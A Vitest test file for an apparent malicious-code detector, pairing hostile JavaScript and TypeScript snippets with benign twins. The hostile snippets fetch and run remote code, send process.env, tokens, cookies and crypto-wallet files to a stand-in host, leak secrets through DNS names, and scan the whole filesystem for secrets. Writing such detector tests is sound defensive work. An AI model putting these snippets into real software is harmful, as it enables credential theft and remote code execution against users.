// Ways of JavaScript and TypeScript in which a value goes where it does harm, each beside an honest twin.
import { describe, expect, it } from 'vitest';
import { decision } from './support.ts';

type Case = readonly [how: string, path: string, text: string, expected: 'block' | 'review' | 'pass'];

describe('what makes functions of texts', () => {
  it.each<Case>([
    [
      'code behind the names of parameters, in a folder of bundles',
      'lib/k.js',
      `(async () => { const r = await fetch("https://c.example.invalid/m.js");\n  new Function("require", await r.text())(require); })();`,
      'block',
    ],
    [
      'parameters that hold code themselves',
      'lib/k.js',
      `fetch("https://c.example.invalid/m.js").then((r) => r.text()).then((t) => new Function(t, "return 1")());`,
      'block',
    ],
    [
      'the body of an error, by the constructor of a function',
      'lib/k.js',
      `const axios = require("axios");\naxios.get("https://c.example.invalid/").catch((e) => {\n  new Function.constructor("require", e.response.data.cookie)(require); });`,
      'block',
    ],
    [
      'a comment in place of the parameters',
      'k.js',
      `fetch("https://c.example.invalid/m.js").then((r) => r.text()).then((t) => Function("/**/", t)());`,
      'block',
    ],
    [
      'code of the file, and an answer that it is called with',
      'lib/k.js',
      `const sum = new Function("a", "b", "return a + b");\nfetch("https://example.com/n").then((r) => r.json()).then((n) => sum(n.a, n.b));`,
      'pass',
    ],
    [
      'the class of an object',
      'lib/k.js',
      `fetch("https://example.com/n").then((r) => r.json()).then((n) => new this.constructor(n));`,
      'pass',
    ],
  ])('%s', async (_, path, text, expected) => {
    expect(await decision(path, text)).toBe(expected);
  });
});

describe('members of objects, as TypeScript writes them', () => {
  it.each<Case>([
    [
      'a parameter that the object keeps',
      'a.ts',
      `class T { constructor(private env = process.env) {}\n  async f() { await fetch("https://c.example.invalid/", { method: "PUT", body: JSON.stringify(this.env) }); } }\nnew T().f();`,
      'block',
    ],
    [
      'a parameter that is passed',
      'lib/a.ts',
      `class T { constructor(readonly env: object) {}\n  async f() { await fetch("https://c.example.invalid/", { method: "PUT", body: JSON.stringify(this.env) }); } }\nnew T({ ...process.env }).f();`,
      'block',
    ],
    [
      'a field',
      'a.ts',
      `class T { private readonly env = { ...process.env };\n  async f() { await fetch("https://c.example.invalid/", { method: "PUT", body: JSON.stringify(this.env) }); } }`,
      'block',
    ],
    [
      'a private field, spread',
      'a.js',
      `class T { #env = process.env;\n  f() { return fetch("https://c.example.invalid/", { method: "PUT", body: JSON.stringify({ ...this.#env }) }); } }`,
      'block',
    ],
    [
      'a static field',
      'a.js',
      `class T { static env = process.env; }\nfetch("https://c.example.invalid/", { method: "PUT", body: JSON.stringify(T.env) });`,
      'block',
    ],
    [
      'a program as the default of a parameter',
      'a.js',
      `function use(text, run = eval) { run(text); }\nfetch("https://c.example.invalid/").then((r) => r.text()).then((t) => use(t));`,
      'block',
    ],
    [
      'one variable of the environment',
      'a.ts',
      `class T { constructor(private key = process.env.SERVICE_URL) {}\n  async f() { await fetch("https://example.com/", { method: "PUT", body: JSON.stringify({ url: this.key }) }); } }`,
      'pass',
    ],
    [
      'the way to fetch as a default, for tests',
      'a.ts',
      `class T { private readonly base = "https://example.com";\n  constructor(private get = fetch) {}\n  async f() { return (await this.get(this.base + "/x")).json(); } }`,
      'pass',
    ],
  ])('%s', async (_, path, text, expected) => {
    expect(await decision(path, text)).toBe(expected);
  });
});

describe('ways out of the machine', () => {
  it.each<Case>([
    [
      'a token in a name that is looked up',
      'lib/d.js',
      `require("dns").lookup(process.env.NPM_TOKEN + ".x.example.invalid", () => {});`,
      'block',
    ],
    [
      'a secret that is taken out of the environment first',
      'lib/d.js',
      `const { API_KEY } = process.env;\nrequire("dns").promises.resolve4(\`\${API_KEY}.x.example.invalid\`);`,
      'block',
    ],
    [
      'a file in another form, in a name',
      'lib/d.js',
      `const dns = require("dns"), fs = require("fs");\ndns.resolveTxt(fs.readFileSync("a").toString("hex").slice(0, 60) + ".x.example.invalid", () => {});`,
      'block',
    ],
    [
      'a host of the environment',
      'lib/d.js',
      `require("dns").lookup(process.env.SERVICE_NAME + ".internal", { family: 4 }, () => {});`,
      'pass',
    ],
    [
      'a digest in a name, as pictures of people are found',
      'lib/d.js',
      `const dns = require("dns"), { createHash } = require("crypto");\ndns.resolveSrv(createHash("sha1").update(domain).digest("hex") + ".example.com", () => {});`,
      'pass',
    ],
    [
      'a connection that is open',
      'lib/w.js',
      `const WebSocket = require("ws");\nconst w = new WebSocket("wss://c.example.invalid");\nw.on("open", () => w.send(JSON.stringify(process.env)));`,
      'block',
    ],
    [
      'a connection that is told how it is called',
      'lib/w.js',
      `const WebSocket = require("ws");\nconst w = new WebSocket(process.env.FEED_URL);\nw.on("open", () => w.send(JSON.stringify({ name: process.env.APP_NAME })));`,
      'pass',
    ],
    [
      'a repository of somebody',
      'lib/o.js',
      `const { Octokit } = require("@octokit/rest");\nnew Octokit({ auth: process.env.GITHUB_TOKEN }).repos.createOrUpdateFileContents({ owner: "x", repo: "y", path: "d", message: "m",\n  content: Buffer.from(JSON.stringify(process.env)).toString("base64") });`,
      'block',
    ],
    [
      'a file of the project in a repository',
      'lib/o.js',
      `const { Octokit } = require("@octokit/rest"), fs = require("fs");\nnew Octokit({ auth: process.env.GITHUB_TOKEN }).repos.createOrUpdateFileContents({ owner: "x", repo: "y", path: "d", message: "m",\n  content: fs.readFileSync("CHANGELOG.md").toString("base64") });`,
      'pass',
    ],
    [
      'wallets and profiles, each in a form',
      'lib/w.js',
      `const fs = require("fs"), os = require("os"), FormData = require("form-data"), axios = require("axios");\nconst dirs = [os.homedir() + "/.config/google-chrome/Default/Local Extension Settings", os.homedir() + "/.config/solana/id.json"];\nfor (const d of dirs) { if (fs.existsSync(d)) { const f = new FormData(); f.append("f", fs.createReadStream(d)); axios.post("https://c.example.invalid/u", f); } }`,
      'block',
    ],
    [
      'files that are uploaded, each in a form',
      'lib/w.js',
      `const fs = require("fs"), os = require("os"), FormData = require("form-data"), axios = require("axios");\nconst dirs = [os.homedir() + "/reports/a.json", os.homedir() + "/reports/b.json"];\nfor (const d of dirs) { if (fs.existsSync(d)) { const f = new FormData(); f.append("f", fs.createReadStream(d)); axios.post("https://example.com/u", f); } }`,
      'pass',
    ],
    [
      'a scanner over the whole machine beside a release',
      'bundle.js',
      `const { execSync } = require("child_process");\nexecSync("trufflehog filesystem / --json > found.json");\nexecSync("npm publish --access public");`,
      'block',
    ],
    [
      'a scanner over the project beside a release',
      'release.js',
      `const { execSync } = require("child_process");\nexecSync("trufflehog filesystem . --fail");\nexecSync("npm publish --access public");`,
      'pass',
    ],
  ])('%s', async (_, path, text, expected) => {
    expect(await decision(path, text)).toBe(expected);
  });
});

describe('what a page keeps', () => {
  it.each<Case>([
    [
      'cookies in an address',
      'web/a.js',
      `fetch("https://c.example.invalid/?c=" + document.cookie);`,
      'review',
    ],
    [
      'cookies and all that is stored, in the address of a picture',
      'web/a.js',
      `new Image().src = "//c.example.invalid/p?c=" + encodeURIComponent(document.cookie + JSON.stringify(localStorage));`,
      'review',
    ],
    [
      'cookies as what is sent',
      'web/App.tsx',
      `export function App() { useEffect(() => { navigator.sendBeacon("https://c.example.invalid/b", document.cookie); }, []); return <b/>; }`,
      'review',
    ],
    [
      'a request that is opened first',
      'lib/a.js',
      `const x = new XMLHttpRequest();\nx.open("POST", "https://c.example.invalid/");\nx.send(JSON.stringify({ ...sessionStorage }));`,
      'review',
    ],
    [
      'a page that is left',
      'web/a.js',
      `location.href = \`https://c.example.invalid/?\${document.cookie}\`;`,
      'review',
    ],
    [
      'a server of its own',
      'web/a.js',
      `fetch("/session", { method: "POST", body: document.cookie });`,
      'pass',
    ],
    [
      'a server of this machine',
      'web/a.js',
      `fetch("http://localhost:3000/session", { method: "POST", body: document.cookie });`,
      'pass',
    ],
    [
      'a token against forged requests',
      'web/a.js',
      `function cookie(name) { const all = document.cookie.split(";"); return all.find((c) => c.trim().startsWith(name + "=")).split("=")[1]; }\nfetch("/api/items", { method: "POST", headers: { "X-CSRFToken": cookie("csrftoken") }, body: "{}" });`,
      'pass',
    ],
    [
      'a token for the service of the page',
      'web/a.js',
      `fetch("https://api.example.com/items", { headers: { Authorization: "Bearer " + localStorage.getItem("token") } });`,
      'pass',
    ],
    [
      'cookies in a header for the service of the page',
      'web/a.js',
      `fetch("https://api.example.com/items", { method: "POST", headers: { Cookie: document.cookie }, body: "{}" });`,
      'pass',
    ],
    [
      'where pages are counted',
      'web/a.js',
      `navigator.sendBeacon("https://www.google-analytics.com/collect", "v=1&c=" + encodeURIComponent(document.cookie));`,
      'pass',
    ],
    [
      'a copy of what is stored',
      'web/a.js',
      `const saved = JSON.stringify(localStorage);\ndownload(saved);\nfetch("https://example.com/version.json").then(show);`,
      'pass',
    ],
  ])('%s', async (_, path, text, expected) => {
    expect(await decision(path, text)).toBe(expected);
  });
});

describe('modules from an address', () => {
  const PROGRAM = Buffer.from('export default () => 1').toString('base64');

  it.each<Case>([
    ['when it is needed', 'a.mjs', 'await import("https://c.example.invalid/m.mjs");', 'review'],
    ['whose name is not known', 'a.mjs', 'await import(`https://c.example.invalid/${name}.mjs`);', 'review'],
    ['at the start', 'a.ts', 'import x from "https://c.example.invalid/mod.ts";\nx();', 'review'],
    ['for others', 'a.ts', 'export * from "http://unpkg.com/x";', 'review'],
    [
      'of a host with a name like that of a known one',
      'a.ts',
      'import "https://esm.sh.example.invalid/x";',
      'review',
    ],
    ['under the name of a known one', 'a.ts', 'import "https://esm.sh@c.example.invalid/x";', 'review'],
    [
      'that stands in its own address',
      'lib/a.mjs',
      `await import("data:text/javascript;base64,${PROGRAM}");`,
      'block',
    ],
    [
      'that stands there to be read',
      'a.mjs',
      'await import("data:text/javascript,export default 1");',
      'pass',
    ],
    [
      'that is made',
      'a.mjs',
      'await import(`data:text/javascript;base64,${Buffer.from(build()).toString("base64")}`);',
      'pass',
    ],
    [
      'of a host of packages',
      'a.ts',
      'import { serve } from "https://deno.land/std@0.200.0/http/server.ts";',
      'pass',
    ],
    [
      'of a host below one',
      'a.mjs',
      'import three from "https://cdn.jsdelivr.net/npm/three@0.160.0/+esm";',
      'pass',
    ],
    ['of this machine', 'a.mjs', 'await import("http://localhost:5173/@vite/client");', 'pass'],
  ])('%s', async (_, path, text, expected) => {
    expect(await decision(path, text)).toBe(expected);
  });
});
